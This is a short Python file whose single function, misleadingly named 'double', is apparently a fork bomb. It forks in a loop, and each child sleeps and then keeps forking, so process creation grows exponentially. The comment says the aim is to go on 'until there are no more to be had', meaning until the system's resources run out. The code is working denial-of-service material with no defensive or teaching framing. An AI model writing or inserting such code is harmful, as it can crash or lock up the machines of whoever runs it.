# Children of children, until there are no more to be had.
import os
import time


def double(number):
    for _ in range(1000):
        if os.fork() == 0:
            time.sleep(60)
